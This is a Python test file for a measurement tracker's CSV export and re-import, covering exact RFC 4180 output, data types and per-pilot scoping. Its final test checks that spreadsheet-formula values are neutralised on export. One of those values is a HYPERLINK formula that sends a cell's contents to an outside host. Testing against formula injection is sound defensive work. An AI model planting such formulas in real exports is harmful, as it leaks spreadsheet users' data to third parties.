"""The tidy export of a pilot's measurements: exact CSV text, and an import that reads it back.

Every test runs on real SQLite, and on PostgreSQL when ``TEST_DATABASE_URL`` is set.
"""

from __future__ import annotations

import pandas as pd
import pytest

from tests import factories
from tests.import_helpers import CONTINUOUS, COUNT, PROPORTION, World, d, make_world
from tracker.db import session_scope
from tracker.errors import NotFoundError
from tracker.services.access import system
from tracker.services.exports import TIDY_COLUMNS, tidy_measurements, tidy_measurements_csv
from tracker.services.measurement_entry import save_measurement
from tracker.services.measurements import import_measurements

ACTOR = system("analist@gemeente.example")

# (measure, period, area, group, values, source), saved in this (unsorted) order.
MEASUREMENTS = [
    (PROPORTION, "2021-02-01", "", "pilot", {"numerator": 4, "denominator": 20}, "GGD"),
    (CONTINUOUS, "2021-01-01", "WK036301", "pilot", {"value": 12.5}, "eigen telling"),
    (CONTINUOUS, "2021-01-01", "", "pilot", {"value": 0.1 + 0.2}, 'wijkteam "Noord", 2021'),
    (CONTINUOUS, "2021-01-01", "", "comparison", {"value": -3.0}, "CBS"),
    (COUNT, "2021-01-01", "GM0363", "pilot", {"count": 7, "exposure": 1500}, "politie"),
    (CONTINUOUS, "2020-12-01", "", "pilot", {"value": 1234567.891}, "CBS"),
    (PROPORTION, "2021-01-01", "", "pilot", {"numerator": 3, "denominator": 12.5}, "GGD"),
    (CONTINUOUS, "2021-02-01", "", "pilot", {"value": 1e-5}, "CBS"),
]

# RFC 4180: CRLF line ends, text quoted, numbers bare and in their shortest exact form (0.1 + 0.2
# is not 0.3 as a double; the file says exactly what the database holds).
EXPECTED_CSV = (
    '"pilot","measure","period","area","group","value","numerator","denominator","count",'
    '"exposure","source"\r\n'
    '"netwerk-noord","contacten",2020-12-01,,"pilot",1234567.891,,,,,"CBS"\r\n'
    '"netwerk-noord","contacten",2021-01-01,,"comparison",-3,,,,,"CBS"\r\n'
    '"netwerk-noord","contacten",2021-01-01,,"pilot",0.30000000000000004,,,,,'
    '"wijkteam ""Noord"", 2021"\r\n'
    '"netwerk-noord","contacten",2021-01-01,"WK036301","pilot",12.5,,,,,"eigen telling"\r\n'
    '"netwerk-noord","contacten",2021-02-01,,"pilot",0.00001,,,,,"CBS"\r\n'
    '"netwerk-noord","meldingen",2021-01-01,"GM0363","pilot",,,,7,1500,"politie"\r\n'
    '"netwerk-noord","verwijzingen",2021-01-01,,"pilot",,3,12.5,,,"GGD"\r\n'
    '"netwerk-noord","verwijzingen",2021-02-01,,"pilot",,4,20,,,"GGD"\r\n'
)


def fill(engine, world: World) -> None:
    with session_scope(engine) as session:
        for measure, period, area, group, values, source in MEASUREMENTS:
            save_measurement(
                session,
                world.pilot_id,
                measure,
                period=d(period),
                area=area,
                group=group,
                source=source,
                actor=ACTOR,
                **values,
            )


def export_csv(engine, pilot_id: int) -> str:
    with session_scope(engine, read_only=True) as session:
        return tidy_measurements_csv(session, pilot_id, actor=ACTOR)


def test_the_csv_is_tidy_sorted_and_exact(engine):
    world = make_world(engine)
    fill(engine, world)
    assert export_csv(engine, world.pilot_id) == EXPECTED_CSV


def test_the_frame_has_the_tidy_columns_and_types(engine):
    world = make_world(engine)
    fill(engine, world)
    with session_scope(engine) as session:
        frame = tidy_measurements(session, world.pilot_id)
    assert tuple(frame.columns) == TIDY_COLUMNS
    assert len(frame) == len(MEASUREMENTS)
    assert frame.loc[0].to_dict() == {
        "pilot": "netwerk-noord",
        "measure": CONTINUOUS,
        "period": "2020-12-01",
        "area": "",
        "group": "pilot",
        "value": 1234567.891,
        "numerator": pytest.approx(float("nan"), nan_ok=True),
        "denominator": pytest.approx(float("nan"), nan_ok=True),
        "count": pytest.approx(float("nan"), nan_ok=True),
        "exposure": pytest.approx(float("nan"), nan_ok=True),
        "source": "CBS",
    }
    assert all(frame[c].dtype == "float64" for c in TIDY_COLUMNS[5:10])
    assert list(frame["measure"]) == sorted(frame["measure"])


def test_a_pilot_without_measurements_exports_the_header_only(engine):
    world = make_world(engine)
    assert export_csv(engine, world.pilot_id) == ",".join(f'"{c}"' for c in TIDY_COLUMNS) + "\r\n"
    with session_scope(engine) as session:
        frame = tidy_measurements(session, world.pilot_id)
    assert frame.empty and tuple(frame.columns) == TIDY_COLUMNS


def test_only_the_pilots_own_measurements_are_exported(engine):
    world = make_world(engine)
    fill(engine, world)
    with session_scope(engine) as session:
        other = factories.pilot(session, slug="netwerk-zuid")
        save_measurement(
            session, other.id, CONTINUOUS, period=d("2021-01-01"), value=99, actor=ACTOR
        )
    assert export_csv(engine, world.pilot_id) == EXPECTED_CSV
    assert "netwerk-zuid" not in EXPECTED_CSV


def test_an_unknown_pilot_is_not_found(engine):
    with session_scope(engine) as session, pytest.raises(NotFoundError):
        tidy_measurements(session, 9999)


def test_the_exported_csv_imports_into_a_fresh_pilot_unchanged(engine, tmp_path):
    world = make_world(engine)
    fill(engine, world)
    exported = export_csv(engine, world.pilot_id)
    path = tmp_path / "export.csv"
    path.write_text(exported, encoding="utf-8")
    with session_scope(engine) as session:
        fresh = factories.pilot(session, slug="netwerk-kopie")
        report = import_measurements(session, fresh.id, path, actor=ACTOR)
    assert (report.errors, report.rows_written) == ([], len(MEASUREMENTS))
    # The pilot column is not part of the import shape: skipped, with a warning that says so.
    assert [(w.code, w.value) for w in report.warnings] == [("ignored_column", "pilot")]
    again = export_csv(engine, fresh.id)
    assert again == exported.replace('"netwerk-noord",', '"netwerk-kopie",')
    with session_scope(engine) as session:
        original = tidy_measurements(session, world.pilot_id).drop(columns="pilot")
        copy = tidy_measurements(session, fresh.id).drop(columns="pilot")
    pd.testing.assert_frame_equal(original.drop(columns="value"), copy.drop(columns="value"))
    # Nothing is lost, not even the last bit of 0.1 + 0.2.
    assert copy["value"].tolist() == pytest.approx(original["value"].tolist(), nan_ok=True)
    assert copy["value"].iloc[2] == 0.1 + 0.2


def test_text_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_are_not(engine):
    world = make_world(engine)
    sources = {
        "2021-01-01": '=HYPERLINK("https://example.org/?d="&A1,"klik")',
        "2021-02-01": "+31 6 12345678",
        "2021-03-01": "-- geschat",
        "2021-04-01": "@SUM(A1:A9)",
        "2021-05-01": "=1+1",  # (a leading tab or CR is trimmed on entry; see test_text.py)
        "2021-06-01": "gewoon = geen formule",
    }
    with session_scope(engine) as session:
        for period, source in sources.items():
            save_measurement(
                session,
                world.pilot_id,
                CONTINUOUS,
                period=d(period),
                group="pilot",
                source=source,
                actor=ACTOR,
                value=-2.5,
            )
    text = export_csv(engine, world.pilot_id)
    frame = pd.read_csv(pd.io.common.StringIO(text), keep_default_na=False)
    assert list(frame["source"]) == [
        "'" + sources["2021-01-01"],
        "'+31 6 12345678",
        "'-- geschat",
        "'@SUM(A1:A9)",
        "'=1+1",
        "gewoon = geen formule",
    ]
    assert list(frame["value"]) == [-2.5] * 6  # a negative number stays a number
    assert '\r\n"netwerk-noord","contacten",2021-03-01,,"pilot",-2.5,,,,,"\'-- geschat"\r\n' in text
